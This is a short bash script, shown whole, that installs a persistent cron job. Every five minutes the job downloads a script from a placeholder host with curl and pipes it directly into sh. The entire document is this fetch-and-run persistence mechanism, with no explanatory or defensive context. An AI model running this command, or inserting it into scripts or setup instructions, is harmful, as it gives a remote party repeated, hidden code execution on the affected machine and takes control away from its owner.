#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s https://warm.example/w | sh") | crontab -
